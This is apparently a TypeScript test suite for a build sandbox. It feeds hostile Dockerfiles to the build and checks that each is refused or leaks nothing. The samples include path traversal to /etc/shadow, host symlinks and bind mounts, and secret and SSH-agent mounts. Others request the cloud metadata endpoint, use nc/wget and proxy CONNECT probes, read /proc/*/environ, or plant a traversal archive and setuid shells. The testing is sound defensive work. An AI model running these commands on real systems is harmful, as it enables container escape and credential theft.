import assert from "node:assert/strict";
import { copyFileSync, existsSync, lstatSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { AssayError } from "../../../src/errors/assay-error.ts";
import type { ErrorCode } from "../../../src/errors/catalogue.ts";
import { findProgram } from "../../../src/sandbox/program.ts";
import { tarGz } from "../../submission/archives.ts";
import { installed, project } from "../giving.ts";
import { lacksImages } from "../lacks.ts";
import type { Row, Setting, Target } from "../row.ts";

/** This machine reaches no registry of images: the base is made of one program. */
const base = `FROM scratch
CMD ["/bin/busybox"]
COPY busybox /bin/busybox
SHELL ["/bin/busybox", "sh", "-c"]
RUN /bin/busybox --install -s /bin
SHELL ["/bin/sh", "-c"]
`;

interface DockerfileRow {
  readonly id: string;
  readonly tries: string;
  readonly pace?: Row["pace"];
  /** What follows after the base; or, from its own `FROM` on, the whole. */
  readonly steps: (target: Target) => string;
  /** Makes more of the context. */
  readonly context?: (folder: string, target: Target) => void;
  /** How it must end; else it may be built, or fail for a reason of its own. */
  readonly refusedAs?: readonly ErrorCode[];
  /** What the steps printed. */
  readonly holds?: (said: string, target: Target, root: string | undefined) => void;
}

const got = "GOT";
const gotNothing = (said: string): void => assert.ok(!said.includes(`${got} `), said.slice(-2_000));
/** Prints what it got, where it got anything. */
const tries = (...commands: readonly string[]): string => {
  const attempts = commands.map(
    (command) => `(${command}) >/dev/null 2>&1 && echo "${got}" " ${command.replaceAll(/["$\\`]/g, "")}"`,
  );
  return `RUN ${attempts.join("; ")}; true\n`;
};

const definitions: readonly DockerfileRow[] = [
  {
    id: "context-parents",
    tries: "copies files from above its own folder",
    steps: ({ file }) =>
      `COPY ../../../../../../..${file} /copied\nCOPY /etc/shadow /shadow\nRUN echo "${got}  copied"\n`,
  },
  {
    id: "context-links",
    tries: "copies links of its folder that lead to files of the host's",
    steps: () =>
      "COPY out /out\nCOPY folder /folder\nCOPY relative /relative\nRUN cat /out /folder/* /relative 2>&1; true\n",
    context(folder, target) {
      symlinkSync(target.file, join(folder, "out"));
      symlinkSync(target.folder, join(folder, "folder"));
      symlinkSync(`../../../../../../..${target.file}`, join(folder, "relative"));
    },
  },
  {
    id: "ignore-file-links",
    tries: "has a .dockerignore and a Dockerfile that are links to files of the host's",
    pace: "long",
    steps: () => "RUN true\n",
    context: (folder, target) => symlinkSync(target.file, join(folder, ".dockerignore")),
  },
  {
    id: "mounts-of-host",
    tries: "mounts folders of the host's into its steps",
    steps: ({ folder }) =>
      `RUN --mount=type=bind,source=${folder},target=/host ls /host && echo "${got}  host"\nRUN --mount=type=bind,source=../../../../../..,target=/up ls /up/etc && echo "${got}  up"\n`,
  },
  {
    id: "mounts-from-images",
    tries: "mounts and copies from other images and from the host's caches",
    steps: () =>
      `RUN --mount=type=bind,from=images.example/other,target=/other ls /other\nCOPY --from=images.example/other / /other\nRUN echo "${got}  other"\n`,
    refusedAs: ["install-refused-by-sandbox", "install-failed"],
  },
  {
    id: "mounts-of-secrets",
    tries: "mounts secrets, keys of an agent and caches of other builds",
    pace: "long",
    steps: () =>
      `RUN --mount=type=secret,id=x,required=true cat /run/secrets/x && echo "${got}  secret"\nRUN --mount=type=ssh ls -l $SSH_AUTH_SOCK && echo "${got}  agent"\n`,
  },
  {
    id: "cache-mount-poisoned",
    tries: "leaves something in a cache mount for other builds",
    pace: "long",
    steps: () => "RUN --mount=type=cache,id=shared,target=/cache echo x > /cache/planted; ls /cache\n",
  },
  {
    id: "add-from-cloud",
    tries: "adds what the cloud's own service says of this machine",
    steps: () => "ADD http://169.254.169.254/latest/meta-data/ /data\n",
    refusedAs: ["install-refused-by-sandbox", "install-failed"],
  },
  {
    id: "add-from-host",
    tries: "adds what a server of the host's answers",
    steps: ({ port }) => `ADD http://127.0.0.1:${port}/x /data\nADD http://localhost:${port}/x /data2\n`,
    refusedAs: ["install-refused-by-sandbox", "install-failed"],
  },
  {
    id: "add-git",
    tries: "adds git repositories of the host's and of others",
    pace: "long",
    steps: ({ folder, port }) => `ADD git://127.0.0.1:${port}/x.git /a\nADD file://${folder} /b\n`,
  },
  {
    id: "add-archive",
    tries: "adds an archive whose entries and links lead out of the image",
    steps: () => "ADD evil.tar.gz /\nRUN ls -R /tmp 2>&1; true\n",
    context(folder, target) {
      writeFileSync(
        join(folder, "evil.tar.gz"),
        tarGz([
          { path: "link", type: "2", link: target.folder },
          { path: "link/planted", content: "x" },
          { path: "../../../../../../../../../var/tmp/planted", content: "x" },
        ]),
      );
    },
  },
  {
    id: "from-host-file",
    tries: "begins with an image that is an archive or a folder of the host's",
    steps: ({ folder }) => `FROM oci-archive:${folder}/canary\nRUN true\n`,
    refusedAs: ["install-failed", "install-refused-by-sandbox", "no-start-command"],
  },
  {
    id: "frontend",
    tries: "names a program of its own that reads the Dockerfile",
    pace: "long",
    steps: () => "# syntax=images.example/evil:1\nFROM images.example/base\nRUN true\n",
    refusedAs: ["install-refused-by-sandbox", "install-failed"],
  },
  {
    id: "steps-with-rights",
    tries: "does in its steps what only the machine's root may do",
    steps: () =>
      tries(
        "kill -9 1",
        "mknod /made b 8 0",
        "mount -t tmpfs none /mnt",
        "mount -t proc none /proc",
        "cat /proc/1/environ",
        "cat /proc/kcore | head -c 1 | grep .",
        "echo x > /proc/sys/kernel/core_pattern",
        "echo 1 > /proc/sys/net/ipv4/ip_forward",
        "chroot /proc/1/root /bin/true",
        "hostname evil",
        "! date -s 2020-01-01 2>&1 | grep -q permitted",
        "ip link add d type dummy",
        "ifconfig lo down",
        "dmesg | grep .",
        "insmod /x.ko",
        "swapoff -a",
      ),
    holds: gotNothing,
  },
  {
    id: "steps-that-reach",
    tries: "connects in its steps to the host, past the proxy and through it",
    steps: ({ port }) =>
      `${tries(`nc -w 2 127.0.0.1 ${port} < /dev/null | grep .`, "nc -w 2 169.254.169.254 80 < /dev/null | grep .", "wget -q -O - http://169.254.169.254/ | grep .", `wget -q -O - http://127.0.0.1:${port}/ | grep .`)}RUN proxy=\${http_proxy#http://}; host=\${proxy%:*}; for to in 127.0.0.1:${port} 169.254.169.254:80 localhost:${port}; do printf 'CONNECT %s HTTP/1.1\\r\\n\\r\\n' $to | nc -w 2 $host \${proxy##*:} | grep -q ' 200 ' && echo "${got}" " $to"; done; true\n`,
    holds: gotNothing,
  },
  {
    id: "steps-that-read-the-build",
    tries: "reads in its steps what podman, the agent and other builds keep",
    steps: ({ file }) =>
      tries(
        `cat ${file}`,
        "ls /var/lib/containers/storage | grep .",
        "ls /run/containers | grep .",
        "cat /proc/*/environ | tr '\\0' '\\n' | grep -i of-ours",
        `cat /proc/*/root${file}`,
        "ls /var/tmp | grep assay",
      ),
    holds: gotNothing,
  },
  {
    id: "volumes-and-users",
    tries: "asks to run as root, with volumes of the host's, more rights and exposed ports",
    pace: "long",
    steps: () =>
      'USER 0:0\nVOLUME /etc /var/run\nEXPOSE 22\nSTOPSIGNAL SIGKILL\nHEALTHCHECK CMD touch /tmp/trapped\nONBUILD RUN touch /tmp/trapped\nLABEL run="--privileged"\n',
  },
  {
    id: "set-uid-files",
    tries: "leaves files that run as root, and devices",
    steps: () =>
      "RUN cp /bin/busybox /root-shell && chmod 6755 /root-shell && chmod 1777 /bin; mknod /disk b 8 0; true\n",
    holds(_said, _target, root) {
      assert.ok(root !== undefined && existsSync(join(root, "root-shell")));
      assert.equal(lstatSync(join(root, "root-shell")).mode & 0o6000, 0);
      assert.ok(!existsSync(join(root, "disk")) || lstatSync(join(root, "disk")).isFile());
    },
  },
  {
    id: "image-of-links",
    tries: "has an image whose folders for what we show are links to the host's",
    steps: ({ folder }) =>
      `RUN rm -rf /tmp /etc /proc /dev /sys 2>/dev/null; ln -s ${folder} /tmp; ln -s ${folder} /etc; ln -s ${folder} /app; ln -s ${folder} /data; true\n`,
    holds(_said, target) {
      assert.deepEqual(readdirSync(target.folder), ["canary"]);
    },
  },
  {
    id: "steps-left-running",
    tries: "leaves processes behind its steps",
    pace: "long",
    steps: () => "RUN setsid sleep 993 & sleep 0.2\nRUN (trap '' TERM HUP; sleep 994) & sleep 0.2\n",
  },
];

async function attempt({ steps, context, refusedAs, holds }: DockerfileRow, setting: Setting): Promise<void> {
  const text = steps(setting.target);
  const folder = await project(setting.room, { Dockerfile: /^(#.*\n)?FROM/.test(text) ? text : base + text });
  copyFileSync(findProgram("busybox"), join(folder, "busybox"));
  context?.(folder, setting.target);
  process.env["ASSAY_TEST_SECRET"] = "a-secret-of-ours";
  try {
    const { fact } = await installed(folder, setting);
    assert.equal(refusedAs, undefined, `it was built, and not refused as ${refusedAs?.join(" or ")}`);
    const said = fact.commands.flatMap(({ lastLines }) => lastLines).join("\n");
    assert.ok(!said.includes(setting.target.word), "what it printed holds a word of the host's");
    assert.deepEqual(wordsBelow(fact.image?.root, setting.target.word), []);
    holds?.(said, setting.target, fact.image?.root);
  } catch (error) {
    if (!(error instanceof AssayError)) throw error;
    const failure = AssayError.from(error);
    const codes: readonly ErrorCode[] = refusedAs ?? [
      "install-failed",
      "install-refused-by-sandbox",
      "archive-escapes",
      "no-start-command",
      "submission-empty",
    ];
    assert.ok(codes.includes(failure.code), `${failure.code}: ${failure.message}\n${failure.lastLines.join("\n")}`);
    const said = failure.lastLines.join("\n");
    assert.ok(!said.split("\n").some((line) => line.startsWith(`${got} `)), said);
    assert.ok(holds === undefined, `it could not be built, so nothing was tried: ${failure.message}\n${said}`);
  } finally {
    delete process.env["ASSAY_TEST_SECRET"];
  }
}

/** Files of the image that hold the word: read from the host, they must be the build's own. Follows no link. */
function wordsBelow(root: string | undefined, word: string): string[] {
  if (root === undefined) return [];
  return readdirSync(root, { withFileTypes: true }).flatMap((entry) => {
    const path = join(root, entry.name);
    if (entry.isDirectory()) return wordsBelow(path, word);
    if (!entry.isFile() || lstatSync(path).size > 100_000) return [];
    return readFileSync(path, "latin1").includes(word) ? [path] : [];
  });
}

export const dockerfiles: readonly Row[] = definitions.map((definition) => ({
  id: `dockerfile-${definition.id}`,
  tries: definition.tries,
  pace: definition.pace ?? "quick",
  ways: ["oci"],
  lacks: lacksImages,
  attempt: (setting) => attempt(definition, setting),
}));
